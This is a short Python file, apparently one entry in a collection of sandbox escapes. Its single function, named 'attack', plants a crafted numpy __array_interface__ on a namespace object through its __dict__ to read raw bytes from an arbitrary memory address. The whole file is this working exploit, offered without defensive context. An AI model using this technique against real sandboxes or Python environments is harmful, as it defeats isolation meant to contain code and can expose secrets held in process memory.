"""Class: class machinery. Source: own find. Escape: a namespace's dict takes special names."""

import types

import numpy as np


def attack(model, tokenizer, address):
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    holder = types.SimpleNamespace()
    try:
        holder.__dict__["__array_interface__"] = spec
    except Exception:
        vars(holder)["__array_interface__"] = spec
    return np.array(holder).tobytes()
